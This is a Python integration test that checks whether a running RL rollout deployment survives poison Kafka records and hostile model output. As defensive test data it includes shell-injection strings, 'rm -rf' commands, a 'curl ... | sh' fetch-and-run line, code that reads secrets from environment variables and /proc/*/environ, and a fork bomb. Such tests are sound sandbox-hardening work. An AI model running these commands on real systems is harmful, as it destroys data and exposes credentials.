"""Poison and hostile input against a running Deployment (inference with the local server and a tiny
model, sandbox, reward), produced to the deployment's real topics.

- Poison records (random bytes, a wrong schema version, an oversized record, invalid UTF-8 in a text
  field, tasks with absurd limits) land in the dead-letter topic with their reasons.
- Hostile model output (shell injection into the verifier, a program that writes outside its
  workspace or reads the host's secrets) and absurd spec limits give outcomes with zero tests passed
  (or clamped limits), never a crash.
- Afterwards every actor is alive with no restart, a valid task still goes all the way to experience,
  a marker file on the host is untouched, and no sandbox process outlives the deployment.
"""

from __future__ import annotations

import os
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import msgpack
import numpy as np
import pytest

from engine.config import EngineConfig, InferenceConfig, KafkaConfig, NatsConfig, RewardConfig, SandboxConfig
from engine.schemas import Completion, DeadLetter, Outcome, SandboxRequest, SandboxResult, Task
from helpers.fixtures import sandbox_processes
from ops.deployment import Deployment
from sandboxes.cgroups import list_groups
from streams.codec import encode
from streams.kafka import Consumer, Producer, Record

pytestmark = [pytest.mark.integration, pytest.mark.anyio]

MAX_RECORD = 256 * 1024
TESTS = [{"name": "t1", "code": "from solution import f\nassert f(2) == 4"},
         {"name": "t2", "code": "from solution import f\nassert f(3) == 6"}]
GOOD = "```python\ndef f(x):\n    return 2 * x\n```"
SECRET_ENV = "ROLLOUT_HOSTILE_SECRET"


def completion(sample_id: str, text: str, spec: dict[str, Any], domain: str = "code") -> Completion:
    n = 3
    return Completion(
        sample_id=sample_id, task_id=f"task-{sample_id}", domain=domain, group_index=0, group_size=1,
        prompt_ids=np.arange(4, dtype=np.int32), response_ids=np.arange(n, dtype=np.int32),
        logprobs=np.zeros(n, dtype=np.float32), loss_mask=np.ones(n, dtype=np.uint8),
        weight_versions=np.zeros(n, dtype=np.int32), text=text, finish_reason="stop", spec=spec)


def task(task_id: str, **kw: Any) -> Task:
    fields: dict[str, Any] = dict(task_id=task_id, domain="arith", prompt="1+1=", spec={"answer": "2"},
                                  group_size=2, sampling={"max_new_tokens": 8})
    fields.update(kw)
    return Task(**fields)


def raw(message: Any, **envelope: Any) -> bytes:
    """``message`` in an envelope without validation, with envelope fields replaced."""
    value, _ = encode(message, producer="hostile-test", validate=False)
    env = msgpack.unpackb(value, raw=False)
    env.update(envelope)
    return msgpack.packb(env, use_bin_type=True)


def invalid_utf8_task() -> bytes:
    """A task whose ``prompt`` is a MessagePack str holding bytes that are not UTF-8."""
    marker = "@@PROMPT@@"
    value = raw(task("utf8", prompt=marker))
    bad = b"\xff\xfe\xc3("  # invalid UTF-8, same length as nothing else: patch the str header too
    packed_marker = msgpack.packb(marker)
    assert value.count(packed_marker) == 1
    return value.replace(packed_marker, bytes([0xA0 | len(bad)]) + bad)


class Collector:
    """Reads every partition of a topic from the beginning and keeps what it saw."""

    def __init__(self, cfg: KafkaConfig, topic: str, schema: str) -> None:
        self.consumer = Consumer(cfg, assign_topics=[topic], expect=(schema,), start_offsets={})
        self.records: list[Record] = []

    async def until(self, cond: Callable[[list[Any]], bool], timeout_s: float, what: str) -> list[Any]:
        with anyio.fail_after(timeout_s):
            while not cond([r.message for r in self.records]):
                for record in await self.consumer.getmany(timeout_s=0.3):
                    record.ack()
                    self.records.append(record)
        return [r.message for r in self.records]


@pytest.mark.timeout(420)
async def test_poison_and_hostile_input_do_not_hurt_a_running_deployment(
        kafka_bootstrap: str, nats_url: str, unique_name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = uuid.uuid4().hex
    monkeypatch.setenv(SECRET_ENV, secret)  # the deployment runs in this process: its environment has it
    host = tmp_path / "host"
    host.mkdir()
    marker = host / "marker"
    marker.write_text("untouched\n")
    pwned = host / "pwned"
    host_tmp = Path("/tmp") / f"rollout-hostile-{uuid.uuid4().hex[:8]}"

    kafka = KafkaConfig(bootstrap=kafka_bootstrap, default_partitions=2, max_record_bytes=MAX_RECORD)
    cfg = EngineConfig(
        namespace=unique_name, kafka=kafka, nats=NatsConfig(url=nats_url),
        inference=InferenceConfig(max_new_tokens=8, concurrency=4, max_batch=8),
        sandbox=SandboxConfig(pool_size=2, max_sandboxes=6, memory_mb=128, pids=32, timeout_s=5),
        reward=RewardConfig(drop_zero_variance=False, group_timeout_s=60))
    inject = [
        ("dollar", f"$(rm -rf {host}) $(touch {pwned})"),
        ("backticks", f"`rm -rf {host}` `touch {pwned}`"),
        ("semicolon", f"x; curl -s http://127.0.0.1:1/ | sh; touch {pwned}; rm -rf {host}"),
        ("quote", f"'; import os; os.system('touch {pwned}; rm -rf {host}'); '"),
        ("escape", "```python\nimport os, shutil\n"
                   f"shutil.rmtree({str(host)!r}, ignore_errors=True)\n"
                   f"open({str(marker)!r}, 'w').write('pwned')\n"
                   f"open({str(host_tmp)!r}, 'w').write('pwned')\n"
                   "def f(x):\n    return 2 * x\n```"),
        ("secret", "```python\nimport os\n"
                   f"def f(x):\n    return 2 * x if os.environ.get({SECRET_ENV!r}) == {secret!r} else -1\n```"),
        ("proc-secret", "```python\nimport glob\n"
                        "def f(x):\n    seen = ''\n"
                        "    for p in glob.glob('/proc/*/environ'):\n"
                        "        try: seen += open(p, 'rb').read().decode(errors='ignore')\n"
                        "        except OSError: pass\n"
                        f"    return 2 * x if {secret!r} in seen else -1\n```"),
        ("fork-bomb", "```python\nimport os\nfor _ in range(100):\n    try: os.fork()\n    except OSError: break\n"
                      "def f(x):\n    return -1\n```"),  # wrong on purpose: only the survival matters here
    ]
    hostile = {name: completion(name, text, {"tests": TESTS, "timeout_s": 5}) for name, text in inject}
    absurd = completion("absurd", GOOD, {"tests": TESTS, "timeout_s": 1e12, "memory_mb": 1 << 20, "pids": 10**9,
                                         "max_turns": 10**4})
    poison_tasks = {
        "random": os.urandom(512),
        "version": raw(task("v"), version=99),
        "oversized": raw(task("big", prompt="x" * (MAX_RECORD + 1024))),
        "utf8": invalid_utf8_task(),
        "group": raw(task("group", group_size=10**6)),
        "tokens": raw(task("tokens", sampling={"max_new_tokens": 10**9})),
        "turns": raw(task("turns", max_turns=10**4)),
    }
    expected_reasons = {"random": "undecodable", "version": "unsupported_version", "oversized": "oversized",
                        "utf8": "undecodable", "group": "invalid", "tokens": "invalid", "turns": "invalid"}

    groups_before, procs_before = list_groups(), sandbox_processes()
    async with Deployment(cfg, roles=["inference", "sandbox", "reward"], run_dir=tmp_path / "run") as d:
        names = d.rt.names
        dlq = Collector(kafka, names.dlq, "dead_letter")
        outcomes = Collector(kafka, names.outcomes, "outcome")
        results = Collector(kafka, names.sandbox_results, "sandbox_result")
        experience = Collector(kafka, names.experience, "experience")
        # produces records up to the broker's limit, past the deployment's max_record_bytes
        big = KafkaConfig(bootstrap=kafka_bootstrap, max_record_bytes=4 * MAX_RECORD)
        async with Producer(big, producer_id="hostile-test") as attacker, dlq.consumer, outcomes.consumer, \
                results.consumer, experience.consumer, anyio.create_task_group() as tg:
            tg.start_soon(d.run)

            # -- poison on every topic the deployment consumes ---------------------------------------
            for name, value in poison_tasks.items():
                await attacker.send_raw_nowait(names.tasks, value, key=name.encode())
            await attacker.send_raw_nowait(names.completions, os.urandom(300), key=b"c-random")
            await attacker.send_raw_nowait(names.outcomes, b"\x92\x01\x02", key=b"o-array")
            await attacker.send_raw_nowait(names.sandbox_requests, raw(
                SandboxRequest(episode_id="e", step=0, action="rm -rf /", reply_partition=0)), key=b"e")

            # -- hostile model output and absurd limits through the verifier -------------------------
            for sample in [*hostile.values(), absurd]:
                await d.rt.producer.send(names.completions, sample, key=sample.task_id)

            # -- a terminal episode with absurd limits and hostile commands ---------------------------
            async def request(step: int, action: str, **kw: Any) -> SandboxResult:
                await d.rt.producer.send(names.sandbox_requests, SandboxRequest(
                    episode_id="hostile-ep", step=step, action=action, reply_partition=0, **kw), key="hostile-ep")
                replies = await results.until(lambda ms: any(m.step == step for m in ms), 60, f"reply {step}")
                return next(m for m in replies if m.step == step)

            spec = {"timeout_s": 1e12, "max_turns": 10**4, "memory_mb": 1 << 20,
                    "checks": [{"cmd": "true", "timeout_s": 1e12}]}
            opened = await request(0, "open", domain="terminal", spec=spec)
            assert opened.error == "" and set(opened.facts["clamped"]) >= {"timeout_s", "max_turns", "memory_mb"}
            step = await request(1, "step", command=f"rm -rf / {host} 2>/dev/null; touch {pwned}; "
                                                     f"cat /proc/1/environ; env; echo done")
            assert "done" in step.observation and secret not in step.observation
            slow = await request(2, "step", command="sleep 1000")
            assert slow.timed_out
            closed = await request(3, "close")
            assert closed.facts["checks_passed"] == 1

            # -- a valid task still goes all the way through ------------------------------------------
            await d.rt.producer.send(names.tasks, task("valid"), key="valid")

            await dlq.until(lambda ms: len(ms) >= len(poison_tasks) + 3, 120, "dead letters")
            wanted = {s.sample_id for s in hostile.values()} | {"absurd", "valid/0", "valid/1"}
            got = await outcomes.until(lambda ms: wanted <= {m.completion["sample_id"] for m in ms}, 180, "outcomes")
            await experience.until(lambda ms: sum(m.task_id == "valid" for m in ms) >= 2, 120, "experience")

            alive, restarts = d.supervisor.alive(), {n: d.supervisor.restarts(n) for n in d.supervisor.actors}
            d.drain()

    # dead letters: every poison record, with its reason and origin
    by_key: dict[tuple[str, str], DeadLetter] = {}
    for record in dlq.records:
        by_key[(record.message.topic, record.key or "")] = record.message
    for name, reason in expected_reasons.items():
        letter = by_key[(names.tasks, name)]
        assert letter.reason == reason, (name, letter.reason, letter.error)
        assert letter.consumer_group == names.group("inference") and letter.error
    assert by_key[(names.completions, "c-random")].reason == "undecodable"
    assert by_key[(names.outcomes, "o-array")].reason == "not_an_envelope"
    assert by_key[(names.sandbox_requests, "e")].reason == "invalid"
    assert len(by_key[(names.tasks, "oversized")].value) <= MAX_RECORD  # a dead letter is never poison itself

    # hostile output scores nothing; absurd limits are clamped, not obeyed
    facts: dict[str, Outcome] = {m.completion["sample_id"]: m for m in got}
    for name in hostile:
        assert facts[name].facts["passed"] == 0, (name, facts[name].facts)
    assert facts["absurd"].facts["passed"] == 2
    assert set(facts["absurd"].facts["clamped"]) >= {"timeout_s", "memory_mb", "pids", "max_turns"}

    # every actor survived without a restart
    assert set(alive) == {"inference", "sandbox.episodes", "sandbox.verify", "reward"}
    assert all(alive.values()), alive
    assert set(restarts.values()) == {0}, restarts

    # the host is untouched and nothing of the sandboxes is left
    assert marker.read_text() == "untouched\n" and not pwned.exists() and not host_tmp.exists()
    assert sandbox_processes() - procs_before == set()
    assert list_groups() - groups_before == set()
